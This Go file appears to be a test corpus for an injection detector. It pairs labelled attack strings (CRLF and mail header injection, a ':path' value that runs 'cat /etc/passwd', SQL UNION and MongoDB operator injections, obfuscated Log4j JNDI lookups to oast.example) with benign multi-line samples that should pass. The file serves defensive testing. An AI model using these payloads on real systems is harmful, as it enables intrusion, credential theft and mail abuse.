package tier1

// Header, mail and Log4j injections as scanners send them (nuclei's and
// PayloadsAllTheThings' CRLF lists, contact-form mail injection,
// log4j-scan's bypasses), and the multi-line text and raw messages that
// look like them.
func init() {
	attacks = append(attacks,
		// Breaks that some stacks make of a character: Unicode's line
		// separator and NEL before a header injections set; the escapes
		// written out; folding spaces; a status line or a JSON body after
		// a blank line; OAuth's state and a language reflected.
		// (Percent-encoded, as a query sends them.)
		attackEntry{lQ, "r", "x%E2%80%A8Set-Cookie:crlf=1", "crlf-injection", 0},
		attackEntry{lQ, "r", "x%C2%85Set-Cookie:crlf=1", "crlf-injection", 0},
		attackEntry{lQ, "r", `%5Cr%5CnSet-Cookie:crlf=injection`, "crlf-injection", 0},
		attackEntry{lQ, "r", `x%5CnLocation:https://evil.example`, "crlf-injection", 0},
		attackEntry{lQ, "r", "x\r\n  Set-Cookie:crlf=1", "crlf-injection", encURL},
		attackEntry{lQ, "r", "x\r\n\r\nHTTP/1.1 200 OK", "crlf-injection", encURL},
		attackEntry{lQ, "r", "x\r\n\r\n{\"admin\":true}", "crlf-injection", encURL},
		attackEntry{lF, "state", "abc\r\nSet-Cookie: x=1", "crlf-injection", encURL},
		attackEntry{lJ, "lang", "en\r\nSet-Cookie: sid=evil", "crlf-injection", 0},
		// Any header after a token; one of several words after anything.
		attackEntry{lQ, "next", "/home\r\nEvil: x", "crlf-injection", encURL},
		attackEntry{lQ, "q", "some text\r\nX-Injected-Header: yes", "crlf-injection", encURL},
		// Mail: the sender's name a form writes into From:, more
		// headers, a blank line and a body, 嘊嘍, SMTP's RCPT TO in an
		// address's quoted local part.
		attackEntry{lF, "name", "Alex\nBcc:victim@example.com", "mail-header-injection", encURL},
		attackEntry{lF, "your-name", "Alex\r\nBcc: v@x.example", "mail-header-injection", encURL},
		attackEntry{lJ, "first_name", "Alex\r\nCc: victim@x.example", "mail-header-injection", 0},
		attackEntry{lF, "email", "a@b.example\nReturn-Path:attacker@evil.example", "mail-header-injection", encURL},
		attackEntry{lF, "email", "a@b.example\nX-Priority:1", "mail-header-injection", encURL},
		attackEntry{lF, "email", "a@b.example\r\n\r\nInjected body spam", "mail-header-injection", encURL},
		attackEntry{lF, "email", "a@b.example\u560a\u560dBcc:v@x.example", "mail-header-injection", encURL},
		attackEntry{lF, "email", `%22attacker%5Cr%5CnRCPT%20TO%3Avictim%22%40x.example`, "mail-header-injection", 0},
		// A first line that looks like a header is no whole message in a
		// subject or a name; list-named address fields.
		attackEntry{lF, "subject", "Re: hello\r\nBcc: victims@list.example", "mail-header-injection", encURL},
		attackEntry{lF, "email", "mailto: a@b.example\r\nBcc: v@x.example", "mail-header-injection", encURL},
		attackEntry{lF, "name", "Attn: Bob\r\nBcc: v@x.example", "mail-header-injection", encURL},
		attackEntry{lJ, "to_addresses", "a@b.example\r\nBcc: v@x.example", "mail-header-injection", 0},
		attackEntry{lJ, "cc_emails", "a@b.example\r\nBcc: v@x.example", "mail-header-injection", 0},
		attackEntry{lJ, "subject_line", "Hi\r\nBcc: v@x.example", "mail-header-injection", 0},
		// One-word headers a proxy acts on, after words.
		attackEntry{lQ, "next", "/home x\r\nForwarded: for=127.0.0.1;host=admin", "crlf-injection", encURL},
		attackEntry{lQ, "next", "/a b\r\nVary: x\r\n\r\nX", "crlf-injection", encURL},
		// A raw message's shape, a bare name in an address field; a
		// GraphQL-shaped query parameter carrying a compound header.
		attackEntry{lF, "email", "From: a@b.example\r\nTo: c@d.example\r\nBcc: victims@x.example", "mail-header-injection", encURL},
		attackEntry{lF, "address", "victim\r\nBcc: victims@x.example", "mail-header-injection", encURL},
		attackEntry{lF, "email_address", "victim x\r\nBcc: victims@x.example", "mail-header-injection", encURL},
		attackEntry{lJ, "from_address", "Mallory Evil\r\nBcc: victims@x.example", "mail-header-injection", 0},
		attackEntry{lQ, "query", "{ a(\r\nSet-Cookie: sid=evil\r\n) { b } }", "crlf-injection", encURL},
		// A repeated HTTP/2 :path's other value, which a back end that
		// takes the last one routes by (decoders/http2 keeps it as a
		// header; ExtractParams reads its query: TestRepeatedPath).
		attackEntry{lH, ":path", "/x;cat /etc/passwd", "cmdi", 0},
		// gRPC metadata (and custom headers) without an x- prefix.
		attackEntry{lH, "tenant-id", "acme' UNION SELECT password FROM users--", "sql-signature", 0},
		// Log4j: an empty date pattern spells nothing; the lookups that
		// recurse until the stack overflows (CVE-2021-45105).
		attackEntry{lH, "user-agent", "${jn${date:}di${date:':'}ldap${date:':'}//oast.example/a}", "jndi-lookup", 0},
		attackEntry{lQ, "q", "${${::-${::-$${::-j}}}}", "jndi-lookup", encURL},
		attackEntry{lH, "x-api-version", "${ctx:loginId}${${ctx:loginId}}", "jndi-lookup", 0},
		// MongoDB filters in gRPC fields: as JSON text, and as a
		// google.protobuf.Struct's members (decoders/protobuf names them
		// as JSON's).
		attackEntry{lPB, "filter", `{"username": {"$ne": null}, "password": {"$ne": null}}`, "nosql-operator", 0},
		attackEntry{lPB, "filter.username.$ne", "null", "nosql-operator", 0},
		attackEntry{lPB, "q", "admin' && this.password.match(/.*/)//", "nosql-js", 0},
	)
	benign = append(benign,
		// Multi-line text: words before the break, a plain word after it.
		corpusEntry{lQ, "text", "Meeting notes\r\nAttendees: Ann, Bob"},
		corpusEntry{lQ, "comment", "Great app!\r\nSuggestion: dark mode"},
		corpusEntry{lQ, "q", "Traceback (most recent call last):\nValueError: invalid literal"},
		corpusEntry{lQ, "addr", "10 Downing St\r\nLondon\r\nPostcode: SW1A 2AA"},
		corpusEntry{lQ, "doc", "apiVersion: v1\nkind: Pod"},
		corpusEntry{lQ, "body", "Your code: 1234\nExpires: 5min"},
		corpusEntry{lH, "x-comment", "Line 1\nNote: two"},
		corpusEntry{lQ, "msg", "fix parser\n\nSigned-off-by: Ann <ann@example.com>"},
		// Cantonese: 嘍 is a particle.
		corpusEntry{lQ, "q", "收到嘍 Update: ok"},
		corpusEntry{lQ, "q", "好嘍 note: ok"},
		corpusEntry{lQ, "q", "Patient: Bob\nAge: 42"},
		// A GET GraphQL query with an alias a header could be called.
		corpusEntry{lQ, "query", "query {\n  user {\n    location: address { city }\n  }\n}"},
		// Mail: a postal address, text fields named for mail, a quoted
		// reply. (A raw message in an address field, an inbound-mail
		// webhook's, is header lines after header lines, as an injection
		// is: detect.exceptions is for such an endpoint.)
		corpusEntry{lJ, "address", "Attn: Billing\nTo: Acme Corp\n12 Main St"},
		corpusEntry{lJ, "email_text", "Forwarded:\nFrom: Bob <bob@example.org>\nDate: Monday"},
		corpusEntry{lJ, "email_template", "Hello {{name}},\nSubject: your order {{id}} shipped\nRegards"},
		corpusEntry{lJ, "email_signature", "John Smith\nFrom: Acme Corp Sales\nTel: 555-0100"},
		corpusEntry{lJ, "reply", "Thanks!\n\nFrom: Support <support@example.com>\nSent: Monday\nTo: Bob\nSubject: Re: help"},
		corpusEntry{lJ, "name", "Acme Corp"},
	)
}
